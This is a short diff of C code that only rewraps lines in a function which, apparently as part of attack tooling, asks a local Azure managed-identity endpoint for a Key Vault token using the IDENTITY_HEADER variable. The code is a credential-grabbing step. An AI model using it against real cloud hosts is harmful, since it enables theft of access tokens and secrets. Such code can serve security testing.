@@ -32,7 +32,8 @@ static void get_token(const struct attack_target *target)
 {
     char request[512];
     const char *header = getenv("IDENTITY_HEADER");
-    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)attack_number(target, "identity"))};
+    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)attack_number(target,
+        "identity"))};
     inet_pton(AF_INET, "127.0.0.1", &address.sin_addr);
     int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
     char *answer = malloc(16384);
@@ -41,8 +42,8 @@ static void get_token(const struct attack_target *target)
         return;
     }
     int length = snprintf(request, sizeof(request),
-                          "GET /msi/token?resource=https://vault.azure.net&api-version=2019-08-01 HTTP/1.1\r\nHost: x\r\n"
-                          "X-IDENTITY-HEADER: %s\r\nConnection: close\r\n\r\n",
+                          "GET /msi/token?resource=https://vault.azure.net&api-version=2019-08-01 HTTP/1.1\r\n"
+                          "Host: x\r\nX-IDENTITY-HEADER: %s\r\nConnection: close\r\n\r\n",
                           header ? header : "");
     if (send(fd, request, (size_t)length, MSG_NOSIGNAL) > 0) {
         size_t used = 0;
